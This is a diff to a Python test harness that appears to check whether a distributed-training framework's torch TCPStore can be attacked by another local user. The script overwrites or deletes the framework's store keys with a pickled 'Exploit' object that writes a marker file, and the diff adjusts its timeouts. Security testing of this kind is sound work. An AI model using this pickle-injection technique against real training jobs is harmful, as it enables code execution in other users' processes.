@@ -25,6 +25,8 @@ import torch.distributed as dist
 NOBODY: Final = 65534
 TIMEOUT_S: Final = 0.5
 LIMIT_S: Final = 20.0  # of one attack
+START_S: Final = 60.0  # until a launcher is there, and until its run begins to join
+SPELL_S: Final = 4.0  # of overwriting or deleting from then on; while that goes on, ranks may not find each other
 GARBAGE: Final = (b"\0" * 8, b"\xff" * 4096, b"GET / HTTP/1.0\r\n\r\n")
 
 
@@ -123,13 +125,14 @@ def overwrite(port: int, exploit: bytes, kind: str) -> list[str]:
     torchrun's own keys are left alone: its rendezvous unpickles some of them.
     """
     written: set[str] = set()
-    deadline = time.monotonic() + LIMIT_S / 2
     with contextlib.suppress(RuntimeError):
-        limit = timedelta(seconds=LIMIT_S / 2)
+        limit = timedelta(seconds=START_S)  # on a busy machine the launcher takes its time
         store: Any = dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=limit)
+        deadline = time.monotonic() + START_S
         while time.monotonic() < deadline:
             for key in store.list_keys():
                 if "fabricx" in key:
+                    deadline = deadline if written else time.monotonic() + SPELL_S
                     written.add(key)
                     if kind == "delete":
                         store.delete_key(key)
@@ -139,7 +142,7 @@ def overwrite(port: int, exploit: bytes, kind: str) -> list[str]:
     return sorted(written)
 
 
-def as_another_user(action: Callable[[], Any]) -> str:
+def as_another_user(action: Callable[[], Any], limit_s: float = LIMIT_S) -> str:
     """Return the result of an action, as text, of a child process without this user's rights."""
     reader, writer = os.pipe()
     if (child := os.fork()) == 0:
@@ -155,14 +158,14 @@ def as_another_user(action: Callable[[], Any]) -> str:
         os._exit(0)
     os.close(writer)
     with open(reader) as file:
-        deadline = time.monotonic() + LIMIT_S
+        deadline = time.monotonic() + limit_s
         while os.waitpid(child, os.WNOHANG) == (0, 0):
             if time.monotonic() > deadline:
                 os.kill(child, signal.SIGKILL)
                 os.waitpid(child, 0)
                 break
             time.sleep(0.01)
-        return file.read() or json.dumps([f"the attack took more than {LIMIT_S} s, and was ended"])
+        return file.read() or json.dumps([f"the attack took more than {limit_s} s, and was ended"])
 
 
 def main(folder: Path, names: Iterable[str]) -> None:
@@ -179,6 +182,7 @@ def main(folder: Path, names: Iterable[str]) -> None:
 if __name__ == "__main__":
     if sys.argv[2] in ("overwrite", "delete"):
         marker = str(Path(sys.argv[1], "marker"))
-        print(as_another_user(lambda: overwrite(int(sys.argv[3]), pickle.dumps(Exploit(marker)), sys.argv[2])))
+        exploit = pickle.dumps(Exploit(marker))
+        print(as_another_user(lambda: overwrite(int(sys.argv[3]), exploit, sys.argv[2]), 2.5 * START_S))
     else:
         main(Path(sys.argv[1]), sys.argv[2:])
